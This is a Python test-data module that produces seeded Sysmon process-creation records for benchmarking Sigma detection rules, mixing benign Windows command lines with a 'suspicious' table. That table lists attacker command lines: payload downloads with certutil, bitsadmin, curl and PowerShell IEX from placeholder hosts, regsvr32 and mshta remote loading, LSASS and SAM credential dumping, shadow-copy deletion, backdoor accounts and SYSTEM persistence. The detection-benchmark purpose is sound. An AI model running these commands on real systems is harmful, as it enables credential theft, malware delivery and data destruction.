"""Seeded Sysmon process-creation records for the Sigma benchmark (see ``bench_sigma.py``).

The command lines are data, quoted whole as Windows writes them: lines may run long.
"""

# ruff: noqa: E501

from __future__ import annotations

import random

from correlog import EventKind, Layout, Reason, Record, Status

__all__ = ["ORDINARY", "SUSPICIOUS", "make_records"]

# fmt: off
_SYS = "C:\\Windows\\System32\\"
_PF = "C:\\Program Files\\"

# (image, original file name, parent image, command line template); {g} a GUID, {n} a number,
# {u} a user name, {f} a file name.
ORDINARY: tuple[tuple[str, str, str, str], ...] = (
    (
        _SYS + "svchost.exe",
        "svchost.exe",
        _SYS + "services.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        _SYS + "svchost.exe",
        "svchost.exe",
        _SYS + "services.exe",
        "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s {f}",
    ),
    (
        _PF + "Google\\Chrome\\Application\\chrome.exe",
        "chrome.exe",
        _PF + "Google\\Chrome\\Application\\chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle={n},i,{n} --lang=en-US --renderer-client-id={n} --mojo-platform-channel-handle={n} /prefetch:1',
    ),
    (
        _PF + "Google\\Chrome\\Application\\chrome.exe",
        "chrome.exe",
        "C:\\Windows\\explorer.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" https://intranet.example.com/{f}',
    ),
    (
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "msedge.exe",
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --field-trial-handle={n},i,{n}',
    ),
    (
        _SYS + "conhost.exe",
        "CONHOST.EXE",
        _SYS + "cmd.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
    ),
    (
        _SYS + "RuntimeBroker.exe",
        "RuntimeBroker.exe",
        _SYS + "svchost.exe",
        "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
    ),
    (_SYS + "taskhostw.exe", "taskhostw.exe", _SYS + "svchost.exe", "taskhostw.exe {{{g}}}"),
    (
        _SYS + "SearchProtocolHost.exe",
        "SearchProtocolHost.exe",
        _SYS + "SearchIndexer.exe",
        '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"',
    ),
    (
        _SYS + "wbem\\WmiPrvSE.exe",
        "Wmiprvse.exe",
        _SYS + "svchost.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
    ),
    (
        _SYS + "backgroundTaskHost.exe",
        "backgroundTaskHost.exe",
        _SYS + "svchost.exe",
        '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca',
    ),
    (
        _SYS + "dllhost.exe",
        "dllhost.exe",
        _SYS + "svchost.exe",
        "C:\\Windows\\system32\\DllHost.exe /Processid:{{{g}}}",
    ),
    (
        "C:\\Windows\\explorer.exe",
        "EXPLORER.EXE",
        _SYS + "userinit.exe",
        "C:\\Windows\\Explorer.EXE",
    ),
    (
        _SYS + "notepad.exe",
        "NOTEPAD.EXE",
        "C:\\Windows\\explorer.exe",
        '"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\{u}\\Documents\\{f}.txt',
    ),
    (
        _PF + "Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "WinWord.exe",
        "C:\\Windows\\explorer.exe",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{u}\\Documents\\{f}.docx" /o ""',
    ),
    (
        _PF + "Git\\cmd\\git.exe",
        "git.exe",
        _PF + "Microsoft VS Code\\Code.exe",
        "git.exe -c core.quotepath=false status -z -uall",
    ),
    (
        "C:\\Users\\{u}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe",
        "python.exe",
        _SYS + "cmd.exe",
        "python.exe C:\\Users\\{u}\\src\\{f}\\manage.py runserver",
    ),
    (
        _PF + "Microsoft VS Code\\Code.exe",
        "electron.exe",
        _PF + "Microsoft VS Code\\Code.exe",
        '"C:\\Program Files\\Microsoft VS Code\\Code.exe" --type=gpu-process --user-data-dir="C:\\Users\\{u}\\AppData\\Roaming\\Code" --gpu-preferences={g} --field-trial-handle={n}',
    ),
    (_SYS + "cmd.exe", "Cmd.Exe", "C:\\Windows\\explorer.exe", '"C:\\Windows\\system32\\cmd.exe"'),
    (
        _SYS + "cmd.exe",
        "Cmd.Exe",
        _SYS + "svchost.exe",
        'C:\\Windows\\system32\\cmd.exe /c ""C:\\Program Files\\Backup\\{f}.bat""',
    ),
    (
        _SYS + "WindowsPowerShell\\v1.0\\powershell.exe",
        "PowerShell.EXE",
        _SYS + "svchost.exe",
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -File C:\\ProgramData\\Scripts\\{f}.ps1',
    ),
    (
        _SYS + "msiexec.exe",
        "msiexec.exe",
        _SYS + "services.exe",
        "C:\\Windows\\system32\\msiexec.exe /V",
    ),
    (_SYS + "sppsvc.exe", "sppsvc.exe", _SYS + "services.exe", "C:\\Windows\\system32\\sppsvc.exe"),
    (_SYS + "consent.exe", "consent.exe", _SYS + "svchost.exe", "consent.exe {n} 288 000001C2{n}"),
    (
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MpCmdRun.exe",
        "MpCmdRun.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MsMpEng.exe",
        '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MpCmdRun.exe" SignaturesUpdateService -ScheduleJob -UnmanagedUpdate',
    ),
    (
        _SYS + "rundll32.exe",
        "RUNDLL32.EXE",
        "C:\\Windows\\explorer.exe",
        '"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\system32\\shell32.dll,Control_RunDLL "C:\\Windows\\System32\\desk.cpl",,0',
    ),
    (_SYS + "schtasks.exe", "schtasks.exe", _SYS + "cmd.exe", "schtasks /query /fo LIST /v"),
    (_SYS + "ipconfig.exe", "ipconfig.exe", _SYS + "cmd.exe", "ipconfig /all"),
    (_SYS + "tasklist.exe", "tasklist.exe", _SYS + "cmd.exe", "tasklist /svc"),
    (
        _SYS + "reg.exe",
        "reg.exe",
        _SYS + "cmd.exe",
        "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall /s",
    ),
    (
        "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
        "OneDrive.exe",
        "C:\\Windows\\explorer.exe",
        '"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
    ),
    (
        "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
        "Teams.exe",
        "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
        '"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=renderer --autoplay-policy=no-user-gesture-required --disable-background-timer-throttling --field-trial-handle={n}',
    ),
    (
        _SYS + "wuauclt.exe",
        "wuauclt.exe",
        _SYS + "svchost.exe",
        '"C:\\Windows\\system32\\wuauclt.exe" /RunHandlerComServer',
    ),
    (
        _SYS + "TiWorker.exe",
        "TiWorker.exe",
        _SYS + "svchost.exe",
        "C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.3684_none_{n}\\TiWorker.exe -Embedding",
    ),
    (
        _SYS + "smartscreen.exe",
        "smartscreen.exe",
        _SYS + "svchost.exe",
        "C:\\Windows\\System32\\smartscreen.exe -Embedding",
    ),
    (
        _SYS + "net.exe",
        "net.exe",
        _SYS + "cmd.exe",
        "net use Z: \\\\fileserver\\{f} /persistent:no",
    ),
    (_SYS + "whoami.exe", "whoami.exe", _SYS + "cmd.exe", "whoami"),
    (
        _PF + "7-Zip\\7z.exe",
        "7z.exe",
        "C:\\Windows\\explorer.exe",
        '"C:\\Program Files\\7-Zip\\7z.exe" x C:\\Users\\{u}\\Downloads\\{f}.zip -oC:\\Users\\{u}\\Downloads\\{f}',
    ),
    (
        _SYS + "SearchIndexer.exe",
        "SearchIndexer.exe",
        _SYS + "services.exe",
        "C:\\Windows\\system32\\SearchIndexer.exe /Embedding",
    ),
    (_SYS + "ctfmon.exe", "CTFMON.EXE", _SYS + "svchost.exe", '"ctfmon.exe"'),
)

#: Living off the land: what SigmaHQ's process_creation rules are written for.
SUSPICIOUS: tuple[tuple[str, str, str, str], ...] = (
    (_SYS + "WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", _SYS + "cmd.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA{n}"),
    (_SYS + "certutil.exe", "CertUtil.exe", _SYS + "cmd.exe", "certutil.exe -urlcache -split -f http://198.51.100.{n}/{f}.exe C:\\Users\\Public\\{f}.exe"),
    (_SYS + "bitsadmin.exe", "bitsadmin.exe", _SYS + "cmd.exe", "bitsadmin /transfer {f} /download /priority high http://203.0.113.7/{f}.exe C:\\Users\\{u}\\AppData\\Local\\Temp\\{f}.exe"),
    (_SYS + "mshta.exe", "MSHTA.EXE", "C:\\Windows\\explorer.exe", "mshta.exe http://malicious.example/{f}.hta"),
    (_SYS + "regsvr32.exe", "REGSVR32.EXE", _SYS + "cmd.exe", "regsvr32 /s /n /u /i:http://203.0.113.9/{f}.sct scrobj.dll"),
    (_SYS + "wbem\\WMIC.exe", "wmic.exe", _SYS + "cmd.exe", 'wmic /node:10.0.0.{n} process call create "cmd.exe /c {f}.bat"'),
    (_SYS + "cmd.exe", "Cmd.Exe", _SYS + "inetsrv\\w3wp.exe", "cmd.exe /c whoami /all"),
    (_SYS + "vssadmin.exe", "VSSADMIN.EXE", _SYS + "cmd.exe", "vssadmin.exe delete shadows /all /quiet"),
    (_SYS + "reg.exe", "reg.exe", _SYS + "cmd.exe", "reg save hklm\\sam C:\\Users\\Public\\{f}.hiv"),
    (_SYS + "net.exe", "net.exe", _SYS + "cmd.exe", "net user backup{n} P@ssw0rd{n} /add"),
    (_SYS + "schtasks.exe", "schtasks.exe", _SYS + "cmd.exe", 'schtasks /create /tn "{f}" /tr "C:\\Users\\Public\\{f}.exe" /sc onlogon /ru SYSTEM'),
    ("C:\\Users\\{u}\\Downloads\\procdump64.exe", "procdump", _SYS + "cmd.exe", "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\{f}.dmp"),
    (_SYS + "rundll32.exe", "RUNDLL32.EXE", _SYS + "cmd.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} C:\\Users\\Public\\{f}.dmp full"),
    (_SYS + "curl.exe", "curl.exe", _SYS + "cmd.exe", "curl -s -o C:\\Users\\Public\\{f}.exe http://198.51.100.{n}/{f}"),
    (_SYS + "cmd.exe", "Cmd.Exe", _PF + "Microsoft Office\\root\\Office16\\WINWORD.EXE", 'cmd.exe /c "powershell -c IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.4/{f}.ps1\')"'),
)
# fmt: on

_USERS = ("alice", "bob", "carol", "dave", "svc_backup")
_FILES = ("report", "invoice", "setup", "update", "notes", "payload", "q3", "tmp1")


def make_records(n: int, seed: int = 1, suspicious_share: float = 0.05) -> list[Record]:
    """``n`` Sysmon process-creation records, deterministic for a seed."""
    rnd = random.Random(seed)
    records = []
    for i in range(n):
        table = SUSPICIOUS if rnd.random() < suspicious_share else ORDINARY
        image, original, parent, command = rnd.choice(table)
        user = rnd.choice(_USERS)
        values = {
            "g": f"{rnd.getrandbits(128):032X}",
            "n": str(rnd.randrange(1, 99_999)),
            "u": user,
            "f": rnd.choice(_FILES),
        }
        image, parent, command = (s.format(**values) for s in (image, parent, command))
        records.append(
            Record(
                host="ws1",
                pid=4 * (i % 16_000) + 4,
                image=image,
                user=user,
                domain="CORP",
                logon_id=0x3E7 + i % 7,
                owner_source=EventKind.CREATED,
                creator_pid=4 * rnd.randrange(1, 16_000),
                creator_image=parent,
                start=i,
                end=None,
                status=Status.PARTIAL,
                reason=Reason.FLUSHED,
                provenance=(1, i + 1),
                layout=Layout.VISTA,
                first_seen=i,
                channel="sysmon",
                command_line=command,
                integrity=rnd.choice(("Medium", "High", "System")),
                extra={
                    "OriginalFileName": original,
                    "Hashes": f"MD5={rnd.getrandbits(128):032X},IMPHASH={rnd.getrandbits(128):032X}",
                    "CurrentDirectory": f"C:\\Users\\{user}\\",
                    "ParentCommandLine": parent,
                    "Company": "Microsoft Corporation",
                    "Product": "Microsoft Windows Operating System",
                    "Description": original,
                    "ParentUser": f"CORP\\{user}",
                },
            )
        )
    return records
